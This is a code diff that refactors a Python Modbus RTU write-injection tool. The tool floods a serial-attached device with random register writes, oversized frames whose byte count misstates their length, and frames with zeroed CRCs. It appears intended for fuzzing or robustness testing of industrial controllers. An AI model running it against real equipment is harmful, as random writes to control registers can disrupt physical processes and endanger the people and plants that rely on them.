@@ -33,7 +33,8 @@ python modbus_write_injector.py --badcrc
 
 """
 
-import argparse, os, random, struct, sys, time
+import argparse, os, random, select, struct, sys, time
+from functools import lru_cache
 import serial
 
 PORT      = "/dev/cu.usbserial-BG018ZD3"   # adjust if necessary
@@ -42,40 +43,72 @@ BYTESIZE  = serial.EIGHTBITS
 PARITY    = serial.PARITY_NONE
 STOPBITS  = serial.STOPBITS_TWO            # 8-N-2
 
+_W10_HDR = struct.Struct(">B B H H B").pack   # slave, 0x10, start, qty, bytes
+_U16     = struct.Struct(">H").pack
+_LE_CRC  = struct.Struct("<H").pack
+
 # ────── CRC-16 / Modbus helper ────────────────────────────
-def crc16(data: bytes) -> int:
-    crc = 0xFFFF
-    for b in data:
-        crc ^= b
-        for _ in range(8):
-            crc = (crc >> 1) ^ 0xA001 if crc & 1 else crc >> 1
-    return crc & 0xFFFF
+def _crc16_entry(crc: int) -> int:
+    for _ in range(8):
+        crc = (crc >> 1) ^ (0xA001 & -(crc & 1))
+    return crc
 
-def le_crc(data: bytes) -> bytes:
-    return struct.pack("<H", crc16(data))
+_CRC16_TABLE = tuple(_crc16_entry(i) for i in range(256))
 
-# ────── frame builders ────────────────────────────────────
-def build_write16(slave: int, reg: int, value: int) -> bytes:
-    body = struct.pack(">B B H H B H",
-                       slave, 0x10, reg, 1, 2, value & 0xFFFF)
-    return body + le_crc(body)
+def crc16(data: bytes, crc: int = 0xFFFF) -> int:
+    """CRC over data; pass a previous result as crc to continue it."""
+    for b in data:
+        crc = (crc >> 8) ^ _CRC16_TABLE[(crc ^ b) & 0xFF]
+    return crc
 
-def build_wide(slave: int, start: int, qty: int = 125) -> bytes:
+# ────── frame builders ────────────────────────────────────
+# Frames are kept as (header, data, CRC) parts and gather-written, so the
+# body is never copied just to append two CRC bytes.
+Frame = tuple[bytes, bytes, bytes]
+
+@lru_cache(maxsize=None)
+def write16_header(slave: int, reg: int) -> tuple[bytes, int]:
+    """Invariant 7-byte header of a one-register write and its CRC state"""
+    hdr = _W10_HDR(slave, 0x10, reg, 1, 2)
+    return hdr, crc16(hdr)
+
+def build_write16(slave: int, reg: int, value: int) -> Frame:
+    hdr, state = write16_header(slave, reg)
+    val = _U16(value & 0xFFFF)
+    return hdr, val, _LE_CRC(crc16(val, state))
+
+def build_wide(slave: int, start: int, qty: int = 125) -> Frame:
     """Legal maximum: 125 registers (250 bytes)"""
-    payload = bytes(random.getrandbits(8) for _ in range(qty*2))
-    body = struct.pack(">B B H H B", slave, 0x10, start, qty, qty*2) + payload
-    return body + le_crc(body)
+    payload = os.urandom(qty*2)
+    hdr = _W10_HDR(slave, 0x10, start, qty, qty*2)
+    return hdr, payload, _LE_CRC(crc16(payload, crc16(hdr)))
 
 def build_huge(slave: int, start: int, claim: int = 250,
-               actual_bytes: int = 600) -> bytes:
+               actual_bytes: int = 600) -> Frame:
     """ByteCount 0xFA (250 reg) but ship far more."""
-    payload = bytes(random.getrandbits(8) for _ in range(actual_bytes))
-    body = struct.pack(">B B H H B", slave, 0x10, start, claim, claim*2) + payload
-    return body + le_crc(body)
-
-def build_badcrc(slave: int, reg: int) -> bytes:
-    f = build_write16(slave, reg, random.randint(0, 0xFFFF))
-    return f[:-2] + b"\x00\x00"     # zero CRC
+    payload = os.urandom(actual_bytes)
+    hdr = _W10_HDR(slave, 0x10, start, claim, claim*2)
+    return hdr, payload, _LE_CRC(crc16(payload, crc16(hdr)))
+
+def build_badcrc(slave: int, reg: int) -> Frame:
+    hdr, val, _ = build_write16(slave, reg, random.randint(0, 0xFFFF))
+    return hdr, val, b"\x00\x00"     # zero CRC
+
+# ────── TX ────────────────────────────────────────────────
+def send(ser, frame: Frame) -> None:
+    """writev() the frame parts into the (non-blocking) pyserial fd"""
+    fd    = ser.fileno()
+    parts = [memoryview(p) for p in frame]
+    while parts:
+        try:
+            n = os.writev(fd, parts)
+        except BlockingIOError:
+            select.select([], [fd], [])     # TX buffer full: wait for room
+            continue
+        while parts and n >= len(parts[0]):
+            n -= len(parts.pop(0))
+        if parts:
+            parts[0] = parts[0][n:]
 
 # ────── CLI / main ────────────────────────────────────────
 def parse():
@@ -91,24 +124,29 @@ def parse():
     g.add_argument("--badcrc",action="store_true", help="zero CRC")
     return p.parse_args()
 
+def next_frame(opt) -> Frame:
+    if opt.wide:
+        return build_wide(opt.slave, opt.reg)
+    if opt.huge:
+        return build_huge(opt.slave, opt.reg)
+    if opt.badcrc:
+        return build_badcrc(opt.slave, opt.reg)
+    return build_write16(opt.slave, opt.reg, random.randint(0, 0xFFFF))
+
 def main():
     opt   = parse()
     ser   = serial.Serial(opt.port, BAUD, BYTESIZE, PARITY, STOPBITS)
     print(f"[+] TX on {ser.port} 115200-8N2; frame every {opt.rate}s")
 
+    frame = next_frame(opt)
+    due   = time.monotonic()
     while True:
-        if opt.wide:
-            frame = build_wide(opt.slave, opt.reg)
-        elif opt.huge:
-            frame = build_huge(opt.slave, opt.reg)
-        elif opt.badcrc:
-            frame = build_badcrc(opt.slave, opt.reg)
-        else:
-            frame = build_write16(opt.slave, opt.reg, random.randint(0, 0xFFFF))
-
-        ser.write(frame)
-        print(f"→ {frame.hex(' ')}  ({len(frame)} B)")
-        time.sleep(opt.rate)
+        send(ser, frame)                # returns once the driver has it
+        print(f"→ {' '.join(p.hex(' ') for p in frame)}  "
+              f"({sum(map(len, frame))} B)")
+        frame = next_frame(opt)         # build N+1 while the UART drains N
+        due   = max(due + opt.rate, time.monotonic())   # no catch-up burst
+        time.sleep(max(0.0, due - time.monotonic()))
 
 if __name__ == "__main__":
     try: